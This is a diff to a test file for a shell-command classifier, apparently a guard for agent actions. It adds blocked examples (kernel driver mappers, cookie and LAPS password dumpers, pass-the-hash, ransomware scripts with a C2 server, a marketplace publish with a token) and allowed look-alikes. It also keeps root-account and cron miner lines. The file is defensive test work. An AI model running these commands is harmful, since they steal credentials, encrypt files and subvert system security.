@@ -79,6 +79,20 @@ BLOCKED = [
     # an account line with root's user id written to any file, staged for /etc/passwd
     ("posix", "echo 'hacker:$6$salt$hash:0:0:root:/root:/bin/bash' >> /tmp/passwd.bak", "env.accounts"),
     ("posix", "printf 'toor::0:0::/root:/bin/sh\\n' > rows.txt", "env.accounts"),
+    # publishing to Visual Studio's marketplace; kernel drivers mapped past signing; cookie and LAPS
+    # password readers; pass-the-hash; programs and scripts named for ransomware
+    (
+        "powershell",
+        "VsixPublisher.exe publish -payload x.vsix -publishManifest p.json -personalAccessToken $pat",
+        "network.publish",
+    ),
+    ("powershell", "Furutaka.exe dummy2.sys", "destructive.machine-state"),
+    ("posix", "./kdmapper x.sys", "destructive.machine-state"),
+    ("powershell", "CookieMonster.exe cookies -d example.com -e", "env.credential-dump"),
+    ("powershell", "Sync-LAPS -UseLDAPS -IgnoreCert", "env.credential-dump"),
+    ("powershell", "Invoke-NetHash -Hosts dc -Username Administrator -Hash $h", "network"),
+    ("powershell", ".\\PSRansom.ps1 -e Directory -s C2Server -p C2Port", "destructive.overwrite-file"),
+    ("posix", "python3 ransomware.py --encrypt ~/Documents", "destructive.overwrite-file"),
     # a crontab line written to any file, staged for `crontab FILE` or a cron folder
     ("posix", "echo '@reboot /usr/sbin/sshd' >> cron_bkp", "unverifiable.scheduled-job"),
     ("posix", 'echo "@daily sleep 60 && /$USER/miner/run.sh" >> mycron', "unverifiable.scheduled-job"),
@@ -288,6 +302,10 @@ BLOCKED = [
 ALLOWED = [
     ("posix", "echo 'key: value' > config.yml"),
     ("posix", "echo 'a:b:0:0' > ratios.txt"),
+    ("powershell", "Get-Content VsmpPublish.json"),
+    ("posix", "kdu_expand -i a.jp2 -o a.tif"),  # Kakadu's JPEG 2000 tools
+    ("posix", "cat docs/ransomware-response.md"),
+    ("powershell", "Get-Content .\\ransom_note.txt"),
     ("posix", "echo '1 2 3 4 5 6' > numbers.txt"),  # no `*` among the fields: numbers, not a schedule
     ("posix", "echo '* * * * *' > stars.txt"),  # a schedule without a command
     ("posix", "echo '@reboot: restart the board' >> NOTES"),
